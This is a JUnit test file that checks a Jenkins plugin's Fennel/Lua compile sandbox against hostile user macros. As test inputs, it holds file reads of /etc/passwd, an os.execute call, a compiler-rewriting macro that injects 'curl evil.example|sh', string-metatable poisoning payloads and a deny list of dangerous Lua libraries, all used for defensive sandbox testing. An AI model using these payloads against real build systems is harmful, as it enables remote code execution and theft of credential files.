package io.jenkins.plugins.quire.fennel;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.jenkins.plugins.quire.sandbox.BudgetExceeded;
import io.jenkins.plugins.quire.sandbox.BudgetHook;
import io.jenkins.plugins.quire.sandbox.SandboxLimits;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.luaj.vm2.Globals;
import org.luaj.vm2.LuaValue;

/** The compile VM runs users' macros: file access, globals, loops, pattern bombs and cross-compile tampering. */
class CompileSafetyTest {
    private static FennelCompileException fails(String source) {
        return assertThrows(FennelCompileException.class, () -> FennelCompiler.compile(source, "ci.fnl"));
    }

    @Test
    void includeOfAFileFailsCleanly() {
        FennelCompileException e = fails("(include :secrets)");
        assertTrue(e.getMessage().startsWith("ci.fnl:1:0: Compile error: module not found secrets"), e.getMessage());
        assertEquals(1, e.line());
        assertEquals("(include :secrets)", e.sourceLine());
    }

    @Test
    void importMacrosOfAFileFailsCleanly() {
        FennelCompileException e = fails("(import-macros m :evil)\n(m)");
        assertTrue(e.getMessage().startsWith("ci.fnl:1:0: Compile error: "), e.getMessage());
        assertTrue(e.getMessage().contains("evil module not found."), e.getMessage());
        assertFalse(e.getMessage().contains("fennel.lua"), e.getMessage());
    }

    @Test
    void osIsAnUnknownIdentifier() {
        FennelCompileException e = fails("(local x 1)\n(os.execute \"id\")");
        assertTrue(e.getMessage().startsWith("ci.fnl:2:1: Compile error: unknown identifier: os\n"), e.getMessage());
        assertEquals(2, e.line());
        assertEquals(1, e.column());
        assertEquals("(os.execute \"id\")", e.sourceLine());
    }

    @Test
    void ioIsAnUnknownIdentifierAndMacrosCannotReadFilesEither() {
        assertTrue(fails("(io.open \"/etc/passwd\")").getMessage().contains("unknown identifier: io"));
        FennelCompileException e = fails("(macro m [] (let [f (_G.io.open \"/etc/passwd\")] (f:read \"*a\")))\n(m)");
        assertTrue(e.getMessage().startsWith("ci.fnl:2:"), e.getMessage());
        assertFalse(e.getMessage().contains("root:"), "a macro read /etc/passwd: " + e.getMessage());
    }

    @Test
    void everyGlobalOutsideTheExecuteSurfaceIsRejected() {
        for (String g : List.of("print", "load", "dofile", "debug", "coroutine", "package", "collectgarbage")) {
            FennelCompileException e = fails("(" + g + " 1)");
            assertTrue(e.getMessage().contains("unknown identifier: " + g), e.getMessage());
        }
    }

    /**
     * A runaway macro stops on whichever budget runs out first: 50 M instructions, or 5 s of wall clock when the
     * machine is so loaded that 50 M instructions take longer.
     */
    private static final java.util.regex.Pattern STOPPED_BY_BUDGET = java.util.regex.Pattern.compile(
            "ci\\.fnl: compilation stopped: (instruction limit exceeded \\(50000000\\)|CPU time limit exceeded \\(5000 ms\\))");

    @Test
    void macroWithAnInfiniteLoopStopsWithAClearError() {
        long t0 = System.nanoTime();
        FennelCompileException e = fails("(macro loop [] (while true nil))\n(loop)");
        long ms = (System.nanoTime() - t0) / 1_000_000;
        assertTrue(STOPPED_BY_BUDGET.matcher(e.getMessage()).lookingAt(), e.getMessage());
        assertTrue(ms < 15_000, "took " + ms + " ms");
    }

    @Test
    void macroWithAPatternBombStops() {
        long t0 = System.nanoTime();
        FennelCompileException e = fails(
                "(macro m [] (string.find (string.rep \"a\" 30) (.. (string.rep \"a*\" 30) \"b\")))\n(m)");
        long ms = (System.nanoTime() - t0) / 1_000_000;
        assertTrue(STOPPED_BY_BUDGET.matcher(e.getMessage()).lookingAt(), e.getMessage());
        assertTrue(ms < 15_000, "took " + ms + " ms");
    }

    @Test
    void aTighterBudgetStopsAnOrdinaryCompile() {
        FennelCompileException e = assertThrows(FennelCompileException.class, () -> FennelCompiler.compile(
                "(local x (icollect [_ v (ipairs [1 2 3])] v))", "ci.fnl", FennelCompiler.LIMITS.withMaxInstructions(10_000)));
        assertEquals("ci.fnl: compilation stopped: instruction limit exceeded (10000)", e.getMessage());
        assertEquals(0, e.line());
    }

    /** Why each compilation gets a fresh VM: with one shared Fennel instance, A's macro would rewrite B's code. */
    @Test
    void evalCompilerRewritingSpecialsDoesNotAffectTheNextCompile() throws Exception {
        String victim = "(sh [\"echo\" \"hi\"])";
        String before = FennelCompiler.compile(victim, "ci.fnl").lua();
        String attacker = "(eval-compiler\n"
                + "  (tset _SPECIALS :sh (fn [ast scope parent]\n"
                + "    (.. \"sh({\\\"curl evil.example|sh\\\"}) and sh(\" (table.concat (icollect [i v (ipairs ast)] "
                + "(if (> i 1) (view v))) \", \") \")\"))))\n"
                + "(sh [\"echo\" \"a\"])";
        String attacked = FennelCompiler.compile(attacker, "ci.fnl").lua();
        assertTrue(attacked.contains("curl evil.example"), "the attack did not work within its own compile:\n" + attacked);
        String after = FennelCompiler.compile(victim, "ci.fnl").lua();
        assertEquals(before, after);
        assertEquals("return sh({\"echo\", \"hi\"})", after);
    }

    @Test
    void stringMetatablePoisoningInsideAMacroDoesNotAffectTheNextCompile() throws Exception {
        String victim = "(local pi 3.141592653589793)\n(local s (: \"abc\" :upper))\n(.. \"n=\" 1 pi s)";
        String before = FennelCompiler.compile(victim, "ci.fnl").lua();
        String[] attacks = {
            "(eval-compiler (set string.format (fn [] \"PWNED\")) (set string.upper (fn [] \"PWNED\")))\n(local x 1)",
            "(eval-compiler (tset (getmetatable \"\") :__index {:format (fn [] \"PWNED\")}))",
            "(eval-compiler (rawset (getmetatable \"\") :__index {}))",
            "(macro m [] (set _G.string.format (fn [] \"PWNED\")) 1)\n(m)",
            "(eval-compiler (tset (. \"\" :upper) :x 1))",
        };
        for (String attack : attacks) {
            try {
                FennelCompiler.compile(attack, "ci.fnl");
            } catch (FennelCompileException expected) {
                // refusing the attack is fine too; only the next compile matters
            }
            String after = FennelCompiler.compile(victim, "ci.fnl").lua();
            assertEquals(before, after, "after " + attack);
            assertFalse(after.contains("PWNED"));
        }
    }

    @Test
    void concurrentCompilationsDoNotInterfere() throws Exception {
        String a = "(macro twice [x] `(do ,x ,x))\n(local pi 3.141592653589793)\n(twice (sh :a))\n(string.format \"%5.2f\" pi)";
        String b = "(local {: x &as t} {:x 1})\n(icollect [_ v (ipairs [1 2])] (.. \"v\" v (- x 1)))";
        String expectedA = FennelCompiler.compile(a, "a.fnl").lua();
        String expectedB = FennelCompiler.compile(b, "b.fnl").lua();
        java.util.concurrent.ExecutorService pool = java.util.concurrent.Executors.newFixedThreadPool(4);
        try {
            List<java.util.concurrent.Future<Boolean>> results = new java.util.ArrayList<>();
            for (int i = 0; i < 16; i++) {
                boolean even = i % 2 == 0;
                results.add(pool.submit(() -> even
                        ? FennelCompiler.compile(a, "a.fnl").lua().equals(expectedA)
                        : FennelCompiler.compile(b, "b.fnl").lua().equals(expectedB)));
            }
            for (var r : results) assertTrue(r.get(60, java.util.concurrent.TimeUnit.SECONDS));
        } finally {
            pool.shutdownNow();
        }
    }

    @Test
    void loadWithAnEnvironmentTableKeepsTheBudget() {
        BudgetHook hook = new BudgetHook(SandboxLimits.DEFAULTS.withMaxInstructions(100_000));
        Globals g = CompileVM.newGlobals(hook);
        LuaValue f = g.load("local f = load('while true do end', 'spin', 't', {}) return f");
        hook.arm(null);
        try {
            LuaValue spin = f.call();
            assertNotNull(spin);
            BudgetExceeded e = assertThrows(BudgetExceeded.class, spin::call);
            assertTrue(e.getMessage().contains("instruction limit exceeded"), e.getMessage());
        } finally {
            hook.disarm();
        }
    }

    @Test
    void loadWithAnEnvironmentTableUsesThatEnvironment() {
        Globals g = CompileVM.newGlobals(new BudgetHook(SandboxLimits.DEFAULTS));
        LuaValue r = g.load("local env = {x = 41} return load('x = x + 1 return x, print', 'c', 't', env)()").call();
        assertEquals(42, r.toint());
        LuaValue bin = g.load("return select(2, load('\\27Lua', 'b', 'bt'))").call();
        assertTrue(bin.tojstring().contains("binary chunk"), bin.tojstring());
    }

    @Test
    void theCompileVmHasNoDangerousLibraries() {
        Globals g = CompileVM.newGlobals(new BudgetHook(SandboxLimits.DEFAULTS));
        for (String name : List.of("os", "luajava", "coroutine", "print", "dofile", "loadfile", "collectgarbage")) {
            assertTrue(g.get(name).isnil(), name + " is present");
        }
        LuaValue debug = g.get("debug");
        assertTrue(debug.get("sethook").isnil() && debug.get("getupvalue").isnil() && debug.get("getregistry").isnil());
        assertTrue(debug.get("getinfo").isfunction() && debug.get("traceback").isfunction());
        assertTrue(g.get("io").get("open").call(LuaValue.valueOf("/etc/passwd")).isnil());
        assertTrue(g.get("io").get("popen").isnil());
        LuaValue req = g.load("return pcall(require, 'org.luaj.vm2.lib.jse.LuajavaLib')").call();
        assertFalse(req.toboolean(), "require reached a Java class");
    }
}
